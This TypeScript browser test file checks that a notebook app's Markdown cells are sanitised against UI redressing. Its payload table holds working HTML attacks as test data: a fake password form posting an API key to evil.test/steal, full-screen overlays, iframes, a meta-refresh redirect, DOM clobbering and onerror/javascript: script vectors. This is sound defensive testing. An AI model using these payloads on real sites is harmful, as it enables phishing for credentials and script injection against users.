/**
 * Issue 17 hole 9: Markdown from a notebook must not be able to redress the UI (overlays, fake
 * forms and buttons, style sheets, clobbered ids). Each payload is rendered the way a Markdown cell
 * renders it, in a real DOM.
 */
import { expect } from '@esm-bundle/chai';
import { renderMarkdown } from '../../src/views/notebook/aw-cell';

const PAYLOADS: Record<string, string> = {
  fixedOverlay: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Click “Run it” to continue</div>',
  absoluteOverlay: '<p style="position: absolute; top: 0; left: 0; width: 100vw; height: 100vh">x</p>',
  form: '<form action="https://evil.test/steal" method="post"><input name="key" type="password" placeholder="API key"><button type="submit">Run it</button></form>',
  styleElement: '<style>:host, * { display: none !important } .confirm { visibility: hidden }</style>text',
  input: 'Your key: <input type="text" autofocus> <textarea>key</textarea> <select><option>a</option></select>',
  button: '<button aria-label="Run queries only" onclick="alert(1)">Run queries only</button>',
  iframe: '<iframe src="https://evil.test" style="position:fixed;inset:0"></iframe>',
  objectEmbed: '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x">',
  clobber: '<img id="workbench" name="workbench" src="x"><a id="services" name="services" href="#">a</a><form name="body"></form>',
  classReuse: '<div class="confirm error-box hidden-src">looks like the app\'s own UI</div>',
  svgStyle: '<svg><style>*{display:none}</style><foreignObject><form><input></form></foreignObject></svg>',
  linkMeta: '<link rel="stylesheet" href="https://evil.test/x.css"><meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test/">',
  scriptish: '<a href="javascript:alert(1)">x</a><img src=x onerror="window.__pwned=1"><details open ontoggle="window.__pwned=1">d</details>',
  markdownHtmlMix: '# Title\n\n<div style="position:fixed">*inside*</div>\n\n[ok](https://example.com "t")',
};

const FORBIDDEN = 'form, input, button, textarea, select, option, style, iframe, object, embed, svg, link, meta, base, script, img';

function render(md: string): HTMLElement {
  const el = document.createElement('div');
  el.innerHTML = renderMarkdown(md);
  document.body.append(el);
  return el;
}

describe('Markdown cells are sanitized with a strict allow-list', () => {
  for (const [name, md] of Object.entries(PAYLOADS)) {
    it(`${name}: no forbidden element or attribute survives`, async () => {
      const el = render(md);
      await new Promise((r) => setTimeout(r, 50));
      expect(el.querySelectorAll(FORBIDDEN).length, el.innerHTML).to.equal(0);
      for (const node of el.querySelectorAll('*')) {
        for (const a of node.getAttributeNames()) {
          expect(['href', 'title', 'align', 'colspan', 'rowspan', 'start', 'rel', 'target', 'open'], `${name}: <${node.localName} ${a}>`).to.include(a);
        }
        const href = node.getAttribute('href');
        if (href) expect(href).to.not.match(/^\s*javascript:/i);
      }
      const pos = [...el.querySelectorAll<HTMLElement>('*')].map((n) => getComputedStyle(n).position);
      expect(pos.filter((p) => p === 'fixed' || p === 'absolute')).to.deep.equal([]);
      expect((window as unknown as { __pwned?: number }).__pwned).to.equal(undefined);
      el.remove();
    });
  }

  it('ordinary Markdown still renders: headings, emphasis, lists, tables, code, links, quotes', () => {
    const el = render('# H1\n\n## H2\n\n*em* **strong** `code` ~~del~~\n\n- a\n- b\n\n1. one\n\n| x | y |\n|:--|--:|\n| 1 | 2 |\n\n```sql\nSELECT 1\n```\n\n> quote\n\n[link](https://example.com "title")\n\n---\n');
    for (const sel of ['h1', 'h2', 'em', 'strong', 'code', 'del', 'ul li', 'ol li', 'table th', 'table td', 'pre code', 'blockquote', 'a[href="https://example.com"]', 'hr']) {
      expect(el.querySelector(sel), sel).to.not.equal(null);
    }
    expect(el.querySelector('a')!.getAttribute('rel')).to.equal('noopener noreferrer');
    expect(el.querySelector('pre code')!.textContent).to.equal('SELECT 1\n');
    el.remove();
  });
});

describe('the browser test harness (test/browser/setup.ts)', () => {
  it('a failed assertion on an element keeps its markup, not the element (an element hung the whole file)', () => {
    const el = document.createElement('p');
    el.className = 'err';
    let caught: { actual?: unknown } | undefined;
    try {
      expect(el).to.equal(null);
    } catch (e) {
      caught = e as { actual?: unknown };
    }
    expect(caught?.actual).to.equal('<p class="err"></p>');
  });
});
